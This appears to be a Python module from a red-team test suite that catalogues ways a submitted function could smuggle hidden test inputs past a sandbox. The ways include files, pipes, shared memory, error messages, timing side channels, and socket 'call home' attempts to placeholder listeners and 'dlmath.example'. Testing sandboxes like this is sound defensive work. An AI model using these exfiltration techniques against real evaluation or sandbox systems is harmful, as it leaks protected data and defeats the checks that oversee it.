"""Attempts to carry data out: row 13. The tested function sees hidden inputs; nothing of them may reach its author.

`{tcp}`, `{udp}`, `{unix}` and `{abstract}` stand for sockets that wait outside.
"""

from __future__ import annotations

from tests.redteam.attack import WRONG, Attack

__all__ = ["CARRYING"]

TRY = "def attempt(f):\n    try:\n        print(str(f())[:20000])\n    except BaseException as e:\n        print(type(e).__name__)\n"

# Something that takes `text` along while the tested function runs; what shows it to the author, in a cell behind.
CHANNELS = {
    "a file": ("open('note', 'a').write(text)", "print(open('note').read())"),
    "a file in the temporary folder": ("open(os.path.join(tempfile.gettempdir(), 'note'), 'a').write(text)",
                                       "print(open(os.path.join(tempfile.gettempdir(), 'note')).read())"),
    "a file in shared memory": ("open('/dev/shm/note', 'a').write(text)", "print(open('/dev/shm/note').read())"),
    "the name of a file": ("open('n' + text.replace('/', '_'), 'w').close()", "print(os.listdir())"),
    "a pipe": ("os.write(pipe[1], text.encode())", "os.set_blocking(pipe[0], False)\nprint(os.read(pipe[0], 10**5))"),
    "a pair of sockets": ("pair[1].send(text.encode())", "pair[0].setblocking(False)\nprint(pair[0].recv(10**5))"),
    "shared memory": ("shared.write(text.encode())", "print(shared[:5000].rstrip(b'\\0'))"),
    "a tensor in shared memory": ("tensor[:len(text)] = torch.tensor(list(text.encode()))",
                                  "print(bytes(tensor.tolist()).rstrip(b'\\0'))"),
    "an open file": ("held.write(text); held.flush()", "held.seek(0)\nprint(held.read())"),
    "the position in a file": ("os.lseek(held.fileno(), number, 0)", "print(os.lseek(held.fileno(), 0, 1))"),
    "a helper's memory": ("os.write(asked[1], text.encode())", "os.write(asked[1], b'tell')\nos.set_blocking(told[0], False)\n"
                          "import time\ntime.sleep(0.2)\nprint(os.read(told[0], 10**5))"),
}  # fmt: skip

PREPARED = """
import atexit, mmap, os, socket, tempfile
pipe, asked, told = os.pipe(), os.pipe(), os.pipe()
shared = mmap.mmap(-1, 2**16)
tensor = torch.zeros(2**14, dtype=torch.uint8).share_memory_()
held = open('held', 'w+')
pair = socket.socketpair()
if os.fork() == 0:
    heard = b''
    while not heard.endswith(b'tell'):
        heard += os.read(asked[0], 4096)
    os.write(told[1], heard)
    os._exit(0)
"""


def _carrying(act: str) -> str:
    return (
        "def double(x):\n    text = repr(np.asarray(x).tolist())\n    number = int(np.asarray(x).ravel()[0])\n"
        f"    try:\n        {act}\n    except Exception:\n        pass\n    return x\n"
    )


RAISED = {
    "an error's text": "raise ValueError(f'got {x}')",
    "an error's name": "raise type(f'E{int(x.flat[0])}', (Exception,), {})('x')",
    "an error's module": "raise type('E', (Exception,), {'__module__': f'm{int(x.flat[0])}'})('x')",
    "a key": "raise KeyError(float(x.flat[0]))",
    "an index": "np.zeros(3)[int(x.flat[0])]",
    "a very large index": "np.zeros(3)[int(x.flat[0]) * 10**6]",
    "words behind a common message": "raise RecursionError('maximum recursion depth exceeded ' + "
    "''.join('abcdefghij'[int(c)] for c in str(int(x.flat[0]))))",
    "words in a common message": "raise ValueError('setting an array element with a sequence. ' + "
    "''.join('abcdefghij'[int(c)] for c in str(int(x.flat[0]))))",
    "a name in letters": "raise type(''.join('abcdefghij'[int(c)] for c in str(int(x.flat[0]))), (Exception,), {})()",
    "a shape": "np.zeros((2, 3)) + np.zeros((int(x.flat[0]) % 10**6, 5))",
    "an attribute": "getattr(x, f'a{int(x.flat[0])}')",
    "a name": "eval(f'undefined_{int(x.flat[0])}')",
    "a failed import": "__import__(f'm{int(x.flat[0])}')",
    "a failed file": "open(f'/nowhere/{int(x.flat[0])}')",
    "a literal": "int(f'{int(x.flat[0])}x')",
    "an assertion": "assert False, x",
    "a cause": "raise ValueError('x') from ValueError(str(x))",
    "a note": "e = ValueError('x'); e.add_note(str(x)); raise e",
    "a group of errors": "raise ExceptionGroup(str(x), [ValueError(str(x))])",
    "a system exit": "raise SystemExit(str(x))",
    "a unicode error": "f'{int(x.flat[0])}é'.encode('ascii')",
    "a syntax error": "exec(f'{int(x.flat[0])} = 1')",
    "a recursion's text": "raise RecursionError(str(x))",
    "a memory error's text": "raise MemoryError(str(x))",
    "the file of an error": "exec(compile('1/0', f'f{int(x.flat[0])}', 'exec'))",
    "a function in the traceback": "exec(f'def g{int(x.flat[0])}(): 1/0\\ng{int(x.flat[0])}()')",
}
RETURNED = {
    "a text": "str(x)",
    "bytes": "str(x).encode()",
    "keys": "{str(x): 1}",
    "the name of a class": "type(f'T{int(x.flat[0])}', (), {})()",
    "the name of a class in letters": "type(''.join('abcdefghij'[int(c)] for c in str(int(x.flat[0]))), (), {})()",
    "the module of a class": "type('T', (), {'__module__': f'm{int(x.flat[0])}'})()",
    "a class": "type(f'T{int(x.flat[0])}', (), {})",
    "the name of a function": "(lambda f: (setattr(f, '__name__', f'f{int(x.flat[0])}'), "
    "setattr(f, '__qualname__', f'f{int(x.flat[0])}'), f)[2])(lambda: 0)",
    "a class that claims a module": "type(f'T{int(x.flat[0])}', (), {'__module__': 'numpy'})()",
    "many axes": "np.zeros((1,) * 32)",
    "a shape without elements": "np.zeros((0, int(x.flat[0])))",
    "a tensor's shape without elements": "torch.zeros((0, int(x.flat[0])))",
    "the names of fields": "np.zeros(3, dtype=[(f'f{int(x.flat[0])}', float)])",
    "a long type": "np.zeros(0, dtype=f'S{int(x.flat[0])}')",
    "a list": "[float(x.flat[0])]",
    "a number": "int(x.flat[0])",
    "a nested list": "[[x.tolist()]]",
}
CALLS_HOME = (
    "import socket\n"
    "def go(family, kind, address):\n    s = socket.socket(family, kind)\n    s.settimeout(1)\n    s.connect(address)\n"
    "    s.send(b'data')\n    return 'CONN' + 'ECTED'\n"
)
WAYS = {
    "TCP": "go(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {tcp}))",
    "UDP": "go(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', {udp}))",
    "a Unix socket": "go(socket.AF_UNIX, socket.SOCK_STREAM, '{unix}')",
    "an abstract socket": "go(socket.AF_UNIX, socket.SOCK_STREAM, '\\0{abstract}')",
    "a name to look up": "'CONN' + 'ECTED ' + socket.gethostbyname('dlmath.example')",
    "raw packets": "go(socket.AF_INET, socket.SOCK_RAW, ('127.0.0.1', 0))",
    "netlink": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) and 'CONN' + 'ECTED'",
}
TIMED = """
import os, resource, time
def double(x):
    end = time.process_time() + (0.2 if float(np.asarray(x).flat[0]) > 1e6 else 0.0)
    while time.process_time() < end: pass
    return x
"""

CARRYING = [
    *(Attack(13, f"carries inputs by {what}", cell=PREPARED, double=_carrying(act), after=shown)
      for what, (act, shown) in CHANNELS.items()),
    Attack(13, "carries inputs by processor time", double=TIMED,
           after="used = resource.getrusage(resource.RUSAGE_CHILDREN)\nif used.ru_utime > 0.1: print('a large number: 735' '10625')"),
    *(Attack(13, f"tells inputs by {what}", double=f"def double(x):\n    x = np.asarray(x)\n    {line}") for what, line in RAISED.items()),
    *(Attack(13, f"returns inputs as {what}", double=f"def double(x):\n    x = np.asarray(x)\n    return {value}")
      for what, value in RETURNED.items()),
    Attack(13, "prints and displays inputs", double="from IPython.display import display\nimport sys, warnings\ndef double(x):\n"
           "    print(x)\n    print(x, file=sys.stderr)\n    display(x)\n    warnings.warn(str(x))\n    return x"),
    Attack(13, "renames itself after its inputs", double="def double(x):\n"
           "    double.__name__ = double.__qualname__ = double.__doc__ = f'd{int(np.asarray(x).flat[0])}'\n    raise ValueError('x')"),
    *(Attack(13, f"calls home by {what}", fence=True, cell=TRY + CALLS_HOME + f"attempt(lambda: {way})") for what, way in WAYS.items()),
    Attack(13, "calls home when called", fence=True, double=CALLS_HOME + "def double(x):\n    for f in (" + ", ".join(
           f"lambda: {way}" for way in WAYS.values()) + "):\n        try:\n            f()\n        except BaseException:\n"
           "            pass\n    return x"),
    Attack(13, "leaves files behind with inputs in their names", double="import os\ndef double(x):\n    for p in ('.', '..', '/tmp', "
           "os.path.expanduser('~')):\n        try:\n            open(f'{p}/n{int(np.asarray(x).flat[0])}.txt', 'w').write(str(x))\n"
           "        except OSError:\n            pass\n    return x", cell=WRONG.replace("double", "unused")),
]  # fmt: skip
